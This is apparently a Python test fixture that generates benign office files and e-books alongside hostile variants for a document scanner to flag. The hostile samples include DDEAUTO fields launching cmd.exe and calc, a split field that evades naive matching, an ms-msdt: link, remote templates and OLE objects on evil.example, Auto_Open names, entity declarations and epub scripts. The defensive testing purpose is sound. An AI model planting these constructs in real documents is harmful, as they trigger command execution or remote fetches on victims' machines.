"""Office documents and books, as their own libraries write them, and with what attackers put into them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
import openpyxl
import pptx
import xlsxwriter
from odf.draw import Frame
from odf.draw import Image as DrawImage
from odf.opendocument import OpenDocumentPresentation, OpenDocumentSpreadsheet, OpenDocumentText
from odf.table import Table, TableCell, TableRow
from odf.text import P
from openpyxl.chart import BarChart, Reference
from PIL import Image
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from dev.corpus.archives import PROGRAM, zipped
from dev.corpus.samples import Sample
from portway.media_types import EXTENSIONS

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def saved(document: object) -> bytes:
    target = io.BytesIO()
    document.save(target)  # type: ignore[attr-defined]
    return target.getvalue()


def word() -> bytes:
    document = docx.Document()
    document.add_heading("What was said", 1)
    document.add_paragraph("And what follows from it.")
    document.add_table(2, 2).cell(0, 0).text = "a"
    return saved(document)


def workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for number in range(50):
        sheet.append([number, number * number, f"=A{number + 1}+1"])
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=9))
    sheet.add_chart(chart, "E2")
    return saved(book)


def slides(with_chart: bool = False) -> bytes:
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[5])
    slide.shapes.title.text = "What follows"
    if with_chart:
        data = CategoryChartData()  # type: ignore[no-untyped-call]
        data.categories = ["a", "b"]
        data.add_series("s", (1.0, 2.0))  # type: ignore[no-untyped-call]
        places = (Inches(1), Inches(2), Inches(4), Inches(3))
        slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, *places, data)
    return saved(show)


def illustrated() -> bytes:
    """With a picture, a header, a footer and a table of styles."""
    document = docx.Document()
    document.add_picture(io.BytesIO(picture()))
    document.sections[0].header.paragraphs[0].text = "Minutes"
    document.sections[0].footer.paragraphs[0].text = "Page"
    return saved(document)


def picture() -> bytes:
    target = io.BytesIO()
    Image.linear_gradient("L").save(target, "PNG")
    return target.getvalue()


def other_workbook() -> bytes:
    """By another library: links, a picture, a comment, a checked field, a chart."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet()
        sheet.write_column(0, 0, range(50))
        sheet.write_url(0, 2, "https://example.org/")
        sheet.write_formula(1, 2, "=SUM(A1:A9)")
        sheet.write_comment(2, 2, "checked")
        sheet.data_validation(3, 2, 9, 2, {"validate": "list", "source": ["a", "b"]})
        sheet.insert_image(10, 2, "a.png", {"image_data": io.BytesIO(picture())})
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=Sheet1!$A$1:$A$9"})
        sheet.insert_chart(20, 2, chart)
    return target.getvalue()


def open_picture() -> bytes:
    document = OpenDocumentText()
    href = document.addPicture("a.png", "image/png", picture())
    frame, paragraph = Frame(width="3cm", height="3cm"), P()
    frame.addElement(DrawImage(href=href))
    paragraph.addElement(frame)
    document.text.addElement(paragraph)
    return saved(document)


def turning(action: str) -> bytes:
    """A presentation with something to click."""
    listener = f'<presentation:event-listener presentation:action="{action}"/>'
    return replaced(
        saved(OpenDocumentPresentation()),
        "content.xml",
        "<office:presentation/>",
        f"<office:presentation>{listener}</office:presentation>",
    )


def open_text() -> bytes:
    document = OpenDocumentText()
    document.text.addElement(P(text="What was said"))
    return saved(document)


def open_sheet() -> bytes:
    document = OpenDocumentSpreadsheet()
    table, row, cell = Table(name="a"), TableRow(), TableCell(valuetype="float", value=1)
    row.addElement(cell)
    table.addElement(row)
    document.spreadsheet.addElement(table)
    return saved(document)


def book(page: str = "<p>Call me whatever you like.</p>", properties: str = "") -> bytes:
    container = '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'
    item = f'<item id="p" href="p.xhtml" media-type="application/xhtml+xml" properties="{properties}"/>'
    parts = {
        "META-INF/container.xml": container.encode(),
        "a.opf": f'<package version="3.0"><manifest>{item}</manifest></package>'.encode(),
        "p.xhtml": f"<!DOCTYPE html><html><body>{page}</body></html>".encode(),
    }
    return packed({"mimetype": b"application/epub+zip", **parts})


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A package: what says its type stays first and stored."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        for name, data in parts.items():
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, how)
    return target.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        return {each.filename: made.read(each) for each in made.infolist()}


def with_parts(data: bytes, more: dict[str, bytes]) -> bytes:
    return packed(parts_of(data) | more)


def replaced(data: bytes, name: str, old: str, new: str) -> bytes:
    """A document in one part of which some text is another one."""
    parts = parts_of(data)
    assert old.encode() in parts[name], (name, old)
    return packed(parts | {name: parts[name].replace(old.encode(), new.encode(), 1)})


def related(
    data: bytes, kind: str, target: str, external: bool = True, of: str = "word/_rels/document.xml.rels"
) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rId99" Type="{RELATIONS}{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(data, of, "</Relationships>", relation)


def with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return replaced(word(), "word/document.xml", "<w:sectPr", f"<w:p>{marks[0]}{runs}{marks[1]}</w:p><w:sectPr")


def with_override(data: bytes, part: str, kind: str, content: bytes) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    return with_parts(replaced(data, "[Content_Types].xml", "</Types>", override), {part: content})


def in_text(element: str) -> bytes:
    return replaced(open_text(), "content.xml", "<office:text>", f"<office:text>{element}")


GOOD: dict[str, tuple[Callable[[], bytes], str]] = {
    "word": (word, "docx"),
    "workbook with a chart": (workbook, "xlsx"),
    "slides": (slides, "pptx"),
    "slides with a chart": (lambda: slides(with_chart=True), "pptx"),
    "word with a link": (lambda: related(word(), "hyperlink", "https://example.org/"), "docx"),
    "word with a template at home": (lambda: related(word(), "attachedTemplate", "file:///C:/a/b.dotm"), "docx"),
    "word with a template in a folder": (lambda: related(word(), "attachedTemplate", "file:///Users/a.dotm"), "docx"),
    "word with a page number": (lambda: with_field(" PAGE ", " \\* MERGEFORMAT "), "docx"),
    "word with pictures": (illustrated, "docx"),
    "workbook by another library": (other_workbook, "xlsx"),
    "open text with a picture": (open_picture, "odt"),
    "open presentation with a click": (lambda: turning("next-page"), "odp"),
    "open text": (open_text, "odt"),
    "open sheet": (open_sheet, "ods"),
    "open presentation": (lambda: saved(OpenDocumentPresentation()), "odp"),
    "book": (book, "epub"),
}
LINKS = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
MANIFEST = '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
SECRET = MANIFEST.replace("/>", "><manifest:encryption-data/></manifest:file-entry>")
BOMB = '<!DOCTYPE a [<!ENTITY b "c">]><Relationships'
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "docm under docx": (lambda: replaced(word(), "[Content_Types].xml", WORD, WORD_MACROS), "docx", "macros"),
    "macros in word": (lambda: with_parts(word(), {"word/vbaProject.bin": bytes(99)}), "docx", "macros"),
    "macros elsewhere": (lambda: with_parts(slides(), {"x/VBAProject.BIN": bytes(99)}), "pptx", "macros"),
    "macros by relationship": (lambda: related(word(), "vbaProject", "x.bin", external=False), "docx", "macros"),
    "macro sheets": (lambda: with_parts(workbook(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "xlsx", "macros"),
    "auto_open": (
        lambda: replaced(
            workbook(),
            "xl/workbook.xml",
            "</workbook>",
            "<definedNames><definedName name='_xlnm.Auto_Open'>A1</definedName></definedNames></workbook>",
        ),
        "xlsx",
        "macros",
    ),
    "xlsx under docx": (workbook, "docx", "malformed"),
    "zip under docx": (lambda: zipped({"a.txt": b"a"}), "docx", "malformed"),
    "template elsewhere": (
        lambda: related(word(), "attachedTemplate", "https://evil.example/t.dotm"),
        "docx",
        "external_reference",
    ),
    "picture elsewhere": (lambda: related(word(), "image", "https://evil.example/p.png"), "docx", "external_reference"),
    "object elsewhere": (
        lambda: related(word(), "oleObject", "mhtml:https://evil.example/x"),
        "docx",
        "external_reference",
    ),
    "link that runs": (lambda: related(word(), "hyperlink", "ms-msdt:/id x"), "docx", "external_reference"),
    "OLE object": (
        lambda: with_parts(word(), {"word/embeddings/oleObject1.bin": bytes(99)}),
        "docx",
        "embedded_object",
    ),
    "program embedded": (lambda: with_parts(word(), {"word/media/image1.png": PROGRAM}), "docx", "executable"),
    "ActiveX": (lambda: with_parts(word(), {"word/activeX/activeX1.xml": b"<a/>"}), "docx", "embedded_object"),
    "page as a chunk": (lambda: related(word(), "aFChunk", "x.html", external=False), "docx", "embedded_object"),
    "DDE": (lambda: with_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "docx", "script"),
    "DDE in pieces": (lambda: with_field(" D", "DE", "AUTO cmd /c calc"), "docx", "script"),
    "picture by field": (lambda: with_field('INCLUDEPICTURE "https://evil.example/p"'), "docx", "external_reference"),
    "DDE in a workbook": (
        lambda: with_override(
            workbook(), "xl/externalLinks/l.xml", LINKS, b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
        ),
        "xlsx",
        "script",
    ),
    "entities": (lambda: replaced(word(), "_rels/.rels", "<Relationships", BOMB), "docx", "entity_bomb"),
    "two parts of one name": (lambda: with_parts(word(), {"WORD/document.xml": b"<a/>"}), "docx", "archive_lies"),
    "open text with macros": (lambda: with_parts(open_text(), {"Basic/Standard/a.xml": b"<a/>"}), "odt", "macros"),
    "open text with Python": (lambda: with_parts(open_text(), {"Scripts/python/a.py": b"a"}), "odt", "macros"),
    "open text with an event": (lambda: in_text('<script:event-listener xmlns:script="urn:s"/>'), "odt", "macros"),
    "open text, encrypted": (
        lambda: replaced(open_text(), "META-INF/manifest.xml", MANIFEST, SECRET),
        "odt",
        "encrypted",
    ),
    "open picture elsewhere": (
        lambda: in_text('<draw:image xmlns:xlink="urn:x" xlink:href="https://evil.example/p"/>'),
        "odt",
        "external_reference",
    ),
    "open sheet under odt": (open_sheet, "odt", "malformed"),
    "open presentation that starts something": (lambda: turning("execute"), "odp", "macros"),
    "book with a script": (lambda: book("<script>alert(1)</script>"), "epub", "script"),
    "book with an event": (lambda: book("<p onclick='alert(1)'>x</p>"), "epub", "script"),
    "scripted book": (lambda: book(properties="scripted"), "epub", "script"),
}
SAMPLES = (
    *(Sample(name, EXTENSIONS[f".{kind}"], kind, make) for name, (make, kind) in GOOD.items()),
    *(
        Sample(name, EXTENSIONS[f".{kind}"], kind, make, frozenset({code}))
        for name, (make, kind, code) in HOSTILE.items()
    ),
)
